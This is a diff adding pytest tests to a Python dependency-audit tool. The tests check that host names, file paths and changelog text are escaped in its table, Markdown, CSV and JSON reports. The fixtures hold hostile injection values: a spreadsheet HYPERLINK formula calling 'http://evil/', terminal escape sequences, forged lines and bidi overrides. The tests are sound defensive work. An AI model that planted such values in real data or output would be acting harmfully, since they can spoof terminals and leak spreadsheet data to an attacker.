@@ -10,7 +10,7 @@ from pathlib import Path
 import networkx as nx
 import pytest
 
-from tests.conftest import run_depgraph, scenario
+from tests.conftest import REPO, run_depgraph, scenario
 
 STATUS = scenario("ubuntu-12.04.3-armhf") / "var/lib/dpkg/status"
 GOLDEN = Path(__file__).parent / "golden"
@@ -233,3 +233,205 @@ def test_the_summary_counts_one_dependent_and_none_in_words() -> None:
     assert "library vulnerable; 1 dependent (1 low)" in one and "1 dependents" not in one
     none = _text_report("--root", scenario("ubuntu-9.04-armel"))
     assert none.endswith("library not-installed; no dependents")
+
+
+# --- text from the data, escaped (issue 23) --------------------------------------------------------
+
+HOSTILE = '=HYPERLINK("http://evil/"&A1)\x1b]0;owned\x07\x1b[2J\nforged line|\u202e\x9b'
+"""A host name or title as an attacker would write it: a spreadsheet formula, an OSC (window
+title) and a CSI (clear screen), a newline, a Markdown cell end, a right-to-left override, a C1 CSI."""
+
+
+def _hostile_snapshot(path: Path, host: str) -> None:
+    """A ``depgraph-snapshot/1`` tarball of a 2014 tree whose manifest names ``host``."""
+    import tarfile
+
+    root = scenario("ubuntu-14.04-core-armhf")
+    manifest = {
+        "format": "depgraph-snapshot/1",
+        "host": host,
+        "time": "2014-04-08T12:00:00+00:00",
+        "kernel": "Linux",
+        "collector": "test",
+        "libraries": ["libssl1.0.0"],
+        "captured": ["dpkg-status"],
+        "missing": [{"what": "proc", "why": "a saved tree has no processes"}],
+    }
+    with tarfile.open(path, "w:gz") as tar:
+        tar.add(root / "var/lib/dpkg/status", arcname="var/lib/dpkg/status")
+        data = json.dumps(manifest).encode()
+        info = tarfile.TarInfo("depgraph-snapshot/manifest.json")
+        info.size = len(data)
+        tar.addfile(info, io.BytesIO(data))
+
+
+def _assert_inert(text: str) -> None:
+    """No control character but the newline, no bidi override, no raw forged line."""
+    for char in text:
+        code = ord(char)
+        assert char == "\n" or not (code < 0x20 or 0x7F <= code <= 0x9F), repr(char)
+        assert not (0x202A <= code <= 0x202E or 0x2066 <= code <= 0x2069), repr(char)
+    assert not any(line.startswith("forged line") for line in text.splitlines()), text
+
+
+@pytest.mark.parametrize("fmt", ["table", "markdown", "csv"])
+def test_fleet_escapes_a_snapshots_host_name(tmp_path: Path, fmt: str) -> None:
+    snapshot = tmp_path / "host.tar.gz"
+    _hostile_snapshot(snapshot, HOSTILE)
+    done = run_depgraph("fleet", "--jobs", "1", "--no-cache", snapshot, "--format", fmt)
+    assert done.status in (0, 1), done.stderr
+    _assert_inert(done.stdout)
+    assert "\\e]0;owned\\x07" in done.stdout, done.stdout
+    if fmt == "csv":
+        import csv
+
+        rows = list(csv.reader(io.StringIO(done.stdout)))
+        assert len(rows) == 2, rows  # the newline did not make a row
+        assert rows[1][0].startswith("'=HYPERLINK("), rows[1][0]
+        assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
+    if fmt == "markdown":
+        assert "forged line\\|" in done.stdout, done.stdout
+
+
+def test_fleet_prints_a_non_utf8_host_file_name_escaped(tmp_path: Path) -> None:
+    """A host file whose name is not UTF-8 ended in ``internal error: UnicodeEncodeError``."""
+    import os
+    import shutil
+    import subprocess
+    import sys
+
+    status = scenario("ubuntu-14.04-core-armhf") / "var/lib/dpkg/status"
+    odd = os.fsencode(tmp_path) + b"/web\xff.status"
+    shutil.copyfile(status, odd)
+    environment = {k: v for k, v in os.environ.items() if k != "DEPGRAPH_DEBUG"}
+    environment["XDG_CACHE_HOME"] = str(tmp_path / "cache")  # the cache's index keys it too
+    for fmt in (b"table", b"csv", b"markdown", b"json"):
+        done = subprocess.run(
+            [
+                sys.executable,
+                b"-m",
+                b"depgraph",
+                b"fleet",
+                b"--jobs",
+                b"1",
+                odd,
+                b"--format",
+                fmt,
+                b"-o",
+                os.fsencode(tmp_path) + b"/report\xff." + fmt,
+            ],
+            capture_output=True,
+            env=environment,
+            check=False,
+        )
+        assert done.returncode in (0, 1), done.stderr
+        assert b"internal error" not in done.stderr, done.stderr
+        written = (os.fsencode(tmp_path) + b"/report\xff." + fmt).decode("utf-8", "surrogateescape")
+        report = Path(written).read_bytes()
+        if fmt != b"json":
+            assert b"web\\xff" in report, report
+
+
+@pytest.mark.parametrize("fmt", ["table", "markdown", "csv"])
+def test_audit_escapes_a_snapshots_host_name(tmp_path: Path, fmt: str) -> None:
+    """The audit's title names the snapshot's host, as its manifest says (a profile's strings
+    are refused with control characters by the profile schema; a host name is not checked)."""
+    snapshot = tmp_path / "host.tar.gz"
+    _hostile_snapshot(snapshot, HOSTILE)
+    done = run_depgraph("audit", "--snapshot", snapshot, "--format", fmt)
+    assert done.status in (0, 1), done.stderr
+    _assert_inert(done.stdout)
+    if fmt != "csv":  # CSV has the dependents only
+        assert "\\e]0;owned\\x07\\e[2J\\nforged line" in done.stdout, done.stdout
+
+
+def test_restart_escapes_a_saved_maps_path(tmp_path: Path) -> None:
+    """A deleted library's path in saved maps text with an OSC and a bidi override in it."""
+    saved = REPO / "fixtures/audit/raspbian-wheezy-stale/maps.txt"
+    odd = "libssl.so.1.0.0\x1b]0;owned\x07\u202e"
+    maps = tmp_path / "maps.txt"
+    maps.write_text(saved.read_text().replace("libssl.so.1.0.0", odd))
+    root = scenario("raspbian-wheezy")
+    done = run_depgraph("restart", "--root", root, "--maps", maps)
+    assert done.status == 1, done.stderr
+    _assert_inert(done.stdout)
+    assert "libssl.so.1.0.0\\e]0;owned\\x07\\u202e" in done.stdout, done.stdout
+
+
+def test_changelog_escapes_the_quoted_entry(tmp_path: Path) -> None:
+    """A changelog whose entry naming the CVE carries terminal escapes."""
+    changelog = tmp_path / "changelog"
+    changelog.write_text(
+        "openssl (1.0.1-4ubuntu5.12) trusty-security; urgency=medium\n\n"
+        "  * SECURITY UPDATE: CVE-2014-0160 \x1b]0;owned\x07 heartbeat \u202eoverrun\n\n"
+        " -- Marc Deslauriers <marc@example.com>  Mon, 07 Apr 2014 15:45:14 -0400\n"
+    )
+    done = run_depgraph("changelog", "--file", changelog, "--cve", "CVE-2014-0160")
+    assert done.status == 0, done.stderr
+    _assert_inert(done.stdout)
+    assert "\\e]0;owned\\x07" in done.stdout, done.stdout
+
+
+def test_escape_functions() -> None:
+    """formats/escape.py on its own: what each function keeps and what it escapes."""
+    from depgraph.formats import escape
+
+    assert escape.terminal("a\nb\tc\r\x1b[31m\x00\x7f\x9b\u202e\u2066\udcff é") == (
+        "a\\nb\\tc\\r\\e[31m\\x00\\x7f\\x9b\\u202e\\u2066\\xff é"
+    )
+    assert escape.block("a\nb\x1b") == "a\nb\\e"
+    assert escape.markdown_cell("a|b\n") == "a\\|b\\n"
+    for formula in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"):
+        assert escape.csv_cell(formula).startswith("'"), formula
+    assert escape.csv_cell("libssl1.0.0") == "libssl1.0.0"
+    line = escape.error_line("x" * 100_000 + " " + "y\n" * 3)
+    assert len(line) < 300 and "99800 more characters" in line and "y\\ny\\ny\\n" in line
+    assert len(escape.error_line(" ".join(["z" * 150] * 100))) < escape.MAX_LINE + 40
+
+
+def test_a_non_utf8_status_name_in_every_format(tmp_path: Path) -> None:
+    """``--status`` whose name is not UTF-8: the report names it escaped in every format (JSON's
+    ``\\udcff`` escape, ``\\xff`` in text), where JSON, HTML and OpenVEX ended in an internal error."""
+    import os
+    import shutil
+    import subprocess
+    import sys
+
+    odd = os.fsencode(tmp_path) + b"/status\xff"
+    shutil.copyfile(STATUS, odd)
+    environment = {k: v for k, v in os.environ.items() if k != "DEPGRAPH_DEBUG"}
+    audit = ["table", "json", "csv", "markdown", "html", "openvex"]
+    graphs = ["tree", "table", "json", "names", "dot", "graphml"]
+    for command, formats in (([b"audit"], audit), ([b"graph", b"libssl1.0.0"], graphs)):
+        for fmt in formats:
+            done = subprocess.run(
+                [
+                    sys.executable,
+                    b"-m",
+                    b"depgraph",
+                    *command,
+                    b"--status",
+                    odd,
+                    b"--format",
+                    fmt.encode(),
+                ],
+                capture_output=True,
+                env=environment,
+                check=False,
+            )
+            assert done.returncode in (0, 1), (command, fmt, done.stderr)
+            assert b"internal error" not in done.stderr, done.stderr
+            done.stdout.decode("utf-8")  # valid UTF-8, whatever the name
+            if fmt == "json" and command == [b"audit"]:
+                assert json.loads(done.stdout)["source"]["description"].endswith("status\udcff")
+
+
+def test_audit_json_keeps_a_hostile_host_name_exact_and_inert(tmp_path: Path) -> None:
+    """JSON keeps the host name as it is, with C1 and bidi characters written as ``\\uXXXX``: the
+    same value for a program, nothing live for a terminal that shows the file."""
+    snapshot = tmp_path / "host.tar.gz"
+    _hostile_snapshot(snapshot, HOSTILE)
+    done = run_depgraph("audit", "--snapshot", snapshot, "--format", "json")
+    assert done.status in (0, 1), done.stderr
+    _assert_inert(done.stdout)
+    assert HOSTILE in json.loads(done.stdout)["source"]["description"]
